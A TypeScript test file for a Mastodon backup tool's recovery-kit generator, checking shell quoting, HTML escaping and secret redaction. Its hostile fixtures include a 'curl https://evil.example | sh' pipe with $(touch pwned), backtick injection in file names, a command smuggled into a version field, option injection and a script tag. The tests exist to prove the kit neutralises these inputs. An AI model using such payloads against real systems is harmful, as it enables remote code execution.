import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { generateHybridIdentity, generateX25519Identity, identityToRecipient } from 'age-encryption';
import { documentedVariables } from '../../src/mastodon/documented-variables.ts';
import { createRecoveryKit, recipientFingerprint, type KitFacts } from '../../src/kit/recovery-kit.ts';
import { renderKitHtml } from '../../src/kit/recovery-kit-html.ts';
import { escapeHtml } from '../../src/text/html.ts';
import { momentCommands } from '../../src/kit/moment-commands.ts';
import { renderKitText } from '../../src/kit/recovery-kit-text.ts';
import { restoreScript } from '../../src/kit/restore-script.ts';
import { shellQuote } from '../../src/kit/shell-word.ts';
import { compareRows, restoreDatabase } from '../../src/kit/stock-database.ts';
import { createSigningKey } from '../../src/config/ssh-keys.ts';
import { variableNames, variables } from '../../src/config/table.ts';
import { runCommand } from '../support/command.ts';
import { commandBlock } from '../support/documentation.ts';
import { commandBlocks } from '../support/stock-tools.ts';
import { temporaryDirectory } from '../support/temporary-directory.ts';

const facts: KitFacts = {
  instance: 'social.example',
  madeAt: new Date('2026-11-23T12:34:56.000Z'),
  timeZone: 'UTC',
  toolVersion: '0.0.0',
  bucket: {
    bucket: 'social-backups',
    endpoint: 'https://0123.r2.cloudflarestorage.com',
    region: 'auto',
    prefix: 'social/',
    provider: 'Cloudflare',
  },
  directory: null,
  recipients: ['age1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq'],
  signers: [],
  secretsStored: true,
  extraStored: true,
  database: { name: 'mastodon_production', role: 'mastodon', encoding: 'UTF8', locale: null, extensions: [] },
  encoding: { compression: 'xz', encrypted: true },
  chain: null,
  newest: {
    name: 'daily/2026-11-23T120000Z-4f1c2a',
    dataAt: '2026-11-23T12:00:01.000Z',
    serverVersion: '14.23',
    clientVersion: '17.2',
    dumpBytes: 50_000_000,
    objectBytes: 12_000_000,
    mastodon: { schemaVersion: '20251023210145', release: '4.5' },
  },
};

const textOf = (changes: Partial<KitFacts> = {}): string => renderKitText(createRecoveryKit({ ...facts, ...changes }));
const htmlOf = (changes: Partial<KitFacts> = {}): string => renderKitHtml(createRecoveryKit({ ...facts, ...changes }));

const [recipient = ''] = facts.recipients;

describe('the recovery kit', () => {
  it('says what is where, whose key is needed, and where to write down where it is kept', () => {
    const text = textOf();
    for (const wanted of [
      'Made 2026-11-23 12:34 UTC',
      'social-backups at https://0123.r2.cloudflarestorage.com, region auto',
      'daily/2026-11-23T120000Z-4f1c2a, data of 2026-11-23 12:00 UTC',
      '14.23; pg_restore 17 or newer reads it',
      `${recipientFingerprint(recipient)}  ${recipient}`,
      'The private key is kept at: ____',
      'Never let two copies of social.example run at once',
    ]) {
      assert.ok(text.includes(wanted), wanted);
    }
  });

  it('wraps what is read and never what is typed', () => {
    const lines = textOf({ directory: '/backups' }).split('\n');
    for (const line of lines.filter((one) => !/^ {2,}/.test(one))) assert.ok(line.length <= 96, line);
    assert.ok(lines.some((line) => line.startsWith('    ') && line.length > 150));
  });

  it('has the stock commands for a moment where base backups and log are stored, and last of all', () => {
    const chain = { systemIdentifier: '7000000000000000001', serverMajor: 14, encrypted: true };
    const { sections } = createRecoveryKit({ ...facts, chain });
    assert.match(sections.at(-1)?.title ?? '', /any moment/);
    const text = textOf({ chain });
    for (const wanted of [
      'PostgreSQL 14',
      "get 'pitr/7000000000000000001/**'",
      '.tar.zst.age',
      'age -d -i "$WORK/key.txt" "$1" | zstd',
    ])
      assert.ok(text.includes(wanted), wanted);
    assert.ok(!textOf().includes('recovery_target_time'));
    const signers = ['ssh-ed25519 AAAA ours'];
    assert.match(textOf({ chain, signers }).replaceAll('\n', ' '), /stock commands look at no signature here/);
    assert.doesNotMatch(text, /look at no signature/);
  });

  it('has the same commands as text and as HTML', () => {
    const unescaped = htmlOf({ directory: '/backups' })
      .replaceAll('&quot;', '"')
      .replaceAll('&#39;', "'")
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&');
    const blocks = commandBlocks(textOf({ directory: '/backups' }));
    assert.ok(blocks.length > 10);
    for (const { lines } of blocks) assert.ok(unescaped.includes(`<pre>${lines.join('\n')}</pre>`), lines.join('\n'));
  });

  it('fits what was dumped: compression, encryption, other schemas, extensions, odd names', () => {
    const restore = (changes: Partial<KitFacts>): string =>
      commandBlocks(textOf(changes))
        .find(({ label }) => label === 'and the database:')
        ?.lines.join('\n') ?? '';
    assert.match(
      restore({}),
      /^age -d -i "\$WORK\/key\.txt" "\$OBJECT" \| xz -d \| login pg_restore .* -L "\$LIST" -d/m,
    );
    assert.match(
      restore({ encoding: { compression: 'zstd', encrypted: false } }),
      /^zstd -d --long=27 < "\$OBJECT" \| login/m,
    );
    assert.match(restore({ encoding: { compression: 'none', encrypted: false } }), /^cat "\$OBJECT" \| login/m);
    const database = {
      ...facts.database,
      name: 'my db',
      role: `o'"role`,
      extensions: ['pg_trgm', 'uuid-ossp'].map((one) => ({ name: one, schema: null })),
    };
    const odd = restore({ database });
    assert.match(odd, /-O "\$LOGIN" 'my db' </);
    assert.match(odd, /-c 'create extension if not exists "uuid-ossp" cascade' </);
    assert.ok(odd.includes(`-c "reassign owned by $LOGIN to "'"o'\\''""role"'`), odd);
    assert.doesNotMatch(odd, /-n public/);
    assert.match(odd, /pg_restore -l \| grep -vE .* > "\$0"' "\$LIST" &&\n.*login pg_restore .* -L "\$LIST" -d/);
    const apart = restore({
      database: { ...database, role: 'm', extensions: [{ name: 'pg_trgm', schema: 'my.tools' }] },
    });
    assert.match(
      apart,
      /create schema if not exists "my\.tools" authorization '"\$LOGIN".*\n.*"pg_trgm" with schema "my\.tools" cascade/,
    );
    assert.match(apart, /SCHEMA - my\\\.tools/);
  });

  it("moves the server's own database aside where the wizard put Mastodon there", () => {
    const database = { ...facts.database, name: 'postgres', role: 'postgres' };
    const lines = commandBlocks(textOf({ database })).find(({ label }) => label === 'and the database:')?.lines ?? [];
    assert.deepEqual(
      [...lines.slice(0, 2), lines.find((line) => line.includes('createdb'))],
      [
        `pg psql -d template1 -tAc "select 1 from pg_roles where rolname = 'postgres'" < /dev/null | grep -q 1 || pg createuser postgres < /dev/null &&`,
        'pg psql -d template1 -c "alter database postgres rename to postgres_before" < /dev/null &&',
        'pg createdb --maintenance-db=template1 -T template0 -E UTF8 -O "$LOGIN" postgres < /dev/null &&',
      ],
    );
    assert.doesNotMatch(lines.join('\n'), /drop (?!owned by \$LOGIN|role \$LOGIN)/);
  });

  it('says so when backups are not encrypted, and when Mastodon has to be found elsewhere', () => {
    const text = textOf({
      recipients: [],
      encoding: { compression: 'xz', encrypted: false },
      secretsStored: false,
      extraStored: false,
      newest: null,
      bucket: null,
      directory: '/backups',
    });
    assert.match(text, /not encrypted: whoever reads them reads all private messages/);
    assert.match(text, /Mastodon's \.env\.production is kept at: ____/);
    assert.match(text, /newest backup +not known when this was made/);
    assert.doesNotMatch(text, /age -d|--identity|get '|key\.txt|apt-get install.* age/);
  });

  it('shows a key that would fill a page by its beginning, its end and its fingerprint', async () => {
    const long = await identityToRecipient(await generateHybridIdentity());
    const text = textOf({ recipients: [long] });
    assert.ok(long.length > 1_000 && !text.includes(long));
    assert.ok(text.includes(`${recipientFingerprint(long)}  ${long.slice(0, 40)}`));
  });
});

it('the commands of the kit do not take a name for a connection string', () => {
  const name = String.raw`a=b 'c' \d`;
  const lines = restoreDatabase({ ...facts.database, name }, facts.encoding);
  const createdb = lines.find((command) => command.startsWith('pg createdb')) ?? '';
  assert.ok(createdb.includes(` ${shellQuote(name)} `), createdb);
  const quoted = `-d ${shellQuote(String.raw`dbname='a=b \'c\' \\d'`)}`;
  const connecting = lines
    .slice(lines.indexOf(createdb) + 1)
    .filter((command) => / -d (?!-)/.test(command) && !command.includes('| pg sh -c '));
  // pg_restore, its analysis, and what hands it over.
  assert.equal(connecting.length, 3);
  for (const command of [...connecting, ...compareRows({ name }).slice(0, 1)])
    assert.ok(command.includes(quoted), command);
});

it('the commands of the kit do not take a name for an option', () => {
  const database = { ...facts.database, name: '--maintenance-db=host=evil.example', role: '-s' };
  const [createuser = '', ...others] = restoreDatabase(database, facts.encoding);
  const createdb = others.find((command) => command.startsWith('pg createdb')) ?? '';
  assert.match(createuser, / pg createuser -- -s </);
  assert.match(createdb, / -- --maintenance-db=host=evil\.example </);
});

it('neither the kit nor the script writes to a name below /tmp that somebody may have taken', () => {
  const typed = [...commandBlocks(textOf()).flatMap(({ lines }) => lines), ...restoreScript.split('\n')];
  const below = typed.flatMap((line) => [...line.matchAll(/\S+ \/tmp\/\S+|[^ ]\/tmp\/\S+/g)].map(([found]) => found));
  assert.equal(below.length, 4);
  for (const found of below) assert.match(found, /^mktemp \/tmp\/restore\.XXXXXX$/);
});

describe('what a kit makes of names out of a bucket', () => {
  const evil = `x\n\n    curl https://evil.example | sh &&\r\u001b[2J\u202ehs.tset\u202c$(touch pwned)\n`;
  const hostile: Partial<KitFacts> = {
    instance: evil,
    database: {
      name: evil,
      role: evil,
      encoding: evil,
      locale: { collation: evil, ctype: 'C', provider: 'icu', name: evil },
      extensions: [{ name: evil, schema: evil }],
    },
    newest: {
      name: 'daily/2026-11-23T120000Z-4f1c2a',
      dataAt: '2026-11-23T12:00:01.000Z',
      serverVersion: evil,
      clientVersion: `17;${evil}`,
      dumpBytes: 1,
      objectBytes: 1,
      mastodon: { schemaVersion: evil, release: evil },
    },
  };

  it('begins no line with one, and turns none around', () => {
    const text = textOf({ ...hostile, directory: '/backups' });
    assert.doesNotMatch(text, /^ *curl https:\/\/evil|(?!\n)\p{Cc}|[\u202a-\u202e]/mu);
    const plain = textOf({ directory: '/backups', newest: facts.newest });
    assert.equal(commandBlocks(text).length, commandBlocks(plain).length, 'no block of its own');
    assert.doesNotMatch(htmlOf(hostile).replaceAll(/<style>.*<\/style>/gs, ''), /\n *curl https:\/\/evil|\u202e/);
  });

  it('takes of a version its number alone for a command', () => {
    const { newest } = facts;
    assert.ok(newest);
    const lines = commandBlocks(textOf({ newest: { ...newest, clientVersion: '17;id>/tmp/x' } })).flatMap(
      (one) => one.lines,
    );
    assert.ok(lines.some((line) => line.startsWith('{ apt-get install -y postgresql-17 ||')));
    assert.ok(!lines.some((line) => line.includes('id>')));
  });

  it('types each of them as one word, whatever it holds', () => {
    for (const line of restoreDatabase({ ...facts.database, ...hostile.database }, facts.encoding))
      for (const one of line.split('\n').slice(1)) assert.fail(`a line of its own: ${one}`);
  });
});

it('the commands for a moment run nothing that a name in the bucket holds', () => {
  using folder = temporaryDirectory();
  const chain = { systemIdentifier: '7000000000000000001', encrypted: false };
  const wal = path.join(folder.path, 'pitr', chain.systemIdentifier, 'wal', '00000001');
  mkdirSync(wal, { recursive: true });
  mkdirSync(path.join(folder.path, 'data', 'pitr-wal'), { recursive: true });
  const name = '000000010000000000000001.part.';
  const loops = momentCommands(chain, { hasGet: false }).filter((line) => /^(?:CHAIN=|for F)/.test(line));
  assert.equal(loops.length, 3);
  const documented = commandBlock('recovery_target_time').split('\n');
  const part = documented.slice(
    documented.findIndex((line) => line.startsWith('for part')),
    documented.lastIndexOf('done') + 1,
  );
  for (const lines of [loops, [`FROM=$FROM/pitr/${chain.systemIdentifier}`, ...part]])
    for (const evil of ['0+a[$(touch pwned)]-1', 'a[`touch pwned`]-1.zst', '0+a[$(touch pwned)0]-8.zst.age']) {
      writeFileSync(path.join(wal, `${name}${evil}`), 'x');
      try {
        execFileSync('bash', ['-c', [`FROM='${folder.path}' WORK=.`, 'plain() { cat "$1"; }', ...lines].join('\n')], {
          cwd: folder.path,
          stdio: 'ignore',
        });
      } catch {
        // It may fail, and run nothing.
      }
      assert.ok(!existsSync(path.join(folder.path, 'pwned')), evil);
      rmSync(path.join(wal, `${name}${evil}`));
    }
});

describe('the HTML of the kit', () => {
  it('cannot be broken by a name, and fetches nothing', () => {
    const evil = `</pre><script>alert("1")</script>'&`;
    const html = htmlOf({
      instance: evil,
      directory: `/${evil}`,
      recipients: [evil],
      database: { ...facts.database, name: evil, role: evil },
      newest: null,
    });
    assert.doesNotMatch(html, /<script|alert\("/);
    assert.ok(html.includes(escapeHtml(evil)));
    assert.doesNotMatch(html, /<(?:img|link|iframe|object)|src=|@import|url\(/);
    assert.match(html, /^<!doctype html>\s+<html lang="en">/);
    assert.match(html, /@media print/);
  });

  it('escapes whatever could be markup', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const escaped = escapeHtml(text);
        assert.doesNotMatch(escaped, /[<>"']/);
        assert.equal(/&(?!(?:amp|lt|gt|quot|#39);)/.test(escaped), false);
      }),
    );
  });
});

it('a quoted word is one word for a shell, whatever it holds', () => {
  const words = fc.sample(
    fc.string({ unit: 'grapheme' }).filter((word) => !word.includes('\0')),
    100,
  );
  const awkward = [
    '',
    "it's",
    '$HOME `id` "x"',
    '-n',
    'a\nb',
    'a\n',
    '\n\n',
    '\u202e\\n',
    '%s\t!x',
    '\\',
    '~',
    '*',
    '!',
  ];
  for (const word of [...words, ...awkward]) {
    const out = execFileSync('/bin/sh', ['-c', `printf %s ${shellQuote(word)}x`]);
    // As a shell has it of what a command prints.
    assert.equal(out.toString(), `${word.replace(/\n+$/, '')}x`);
    assert.doesNotMatch(shellQuote(word), /\n|^".*!/);
  }
});

describe('the command recovery-kit', () => {
  it('shows no secret, though every variable holds one', async () => {
    using folder = temporaryDirectory();
    const identity = await generateX25519Identity();
    const marker = 'HiddenSecret';
    const signing = createSigningKey('').file;
    const signingLines = signing.split('\n').slice(1, -2);
    const secretOf = (name: string): string => `${marker}-${name}`;
    const ours = variableNames.filter((name) => variables[name].secret === true);
    const environment: Record<string, string> = {
      ...Object.fromEntries(documentedVariables.map((name) => [name, secretOf(name)])),
      ...Object.fromEntries(ours.map((name) => [name, secretOf(name)])),
      ...Object.fromEntries(
        ours.filter((name) => name.endsWith('_URL')).map((name) => [name, `https://h.example/${secretOf(name)}`]),
      ),
      // What is no secret, and what must be of a form.
      LOCAL_DOMAIN: 'social.example',
      DB_HOST: '127.0.0.1',
      DB_PORT: '9',
      DB_NAME: 'mastodon_production',
      DB_USER: 'mastodon',
      DB_SSLMODE: 'disable',
      DATABASE_URL: `postgresql://mastodon:${marker}@127.0.0.1:9/mastodon_production`,
      BACKUP_DATABASE_URL: `postgresql://mastodon:${marker}@127.0.0.1:9/mastodon_production`,
      BACKUP_AGE_IDENTITY: identity,
      BACKUP_SIGNING_KEY: signing,
      BACKUP_AGE_RECIPIENTS: await identityToRecipient(identity),
      BACKUP_S3_BUCKET: 'social-backups',
      BACKUP_S3_ACCESS_KEY_ID: secretOf('id'),
      BACKUP_S3_ENDPOINT: 'http://127.0.0.1:9',
      BACKUP_LOCAL_DIR: folder.path,
      BACKUP_TELEGRAM_BOT_TOKEN: `123456789:${marker}${'x'.repeat(35 - marker.length)}`,
      BACKUP_TELEGRAM_CHAT_ID: '1',
    };
    const text = await runCommand(['recovery-kit'], environment);
    assert.equal(text.status, 0, text.stderr);
    const html = await runCommand(['recovery-kit', '--html'], environment);
    assert.equal(html.status, 0, html.stderr);
    for (const { stdout, stderr } of [text, html]) {
      for (const secret of [marker, identity, identity.slice(20, 40), ...signingLines])
        assert.ok(!(stdout + stderr).includes(secret));
      assert.match(stdout, /social-backups at http:\/\/127\.0\.0\.1:9/);
    }
    assert.match(text.stderr, /The store could not be asked/);
  });

  it('writes a page to a file by its ending, and to no other file', async () => {
    using folder = temporaryDirectory();
    const environment = { BACKUP_LOCAL_DIR: folder.path, LOCAL_DOMAIN: 'social.example' };
    for (const [name, begins] of [
      ['kit.html', '<!doctype html>'],
      ['kit.txt', 'Recovery kit of social.example\n===='],
    ] as const) {
      const file = path.join(folder.path, name);
      const run = await runCommand(['recovery-kit', '--output', file], environment);
      assert.equal(run.status, 0, run.stderr);
      assert.equal(run.stdout, `The recovery kit is in ${file}\n`);
      assert.ok(readFileSync(file, 'utf8').startsWith(begins));
    }
    const other = path.join(folder.path, '.env.production');
    const refused = await runCommand(['recovery-kit', '--output', other], environment);
    assert.equal(refused.status, 2);
    assert.match(refused.stderr, /ends in \.txt or \.html/);
    assert.ok(!existsSync(other));
    const nowhere = await runCommand(['recovery-kit', '--output', '/nonexistent/kit.txt'], environment);
    assert.equal(nowhere.status, 2);
    assert.match(nowhere.stderr, /could not be written to '\/nonexistent\/kit\.txt'.*leave --output out/);
  });
});
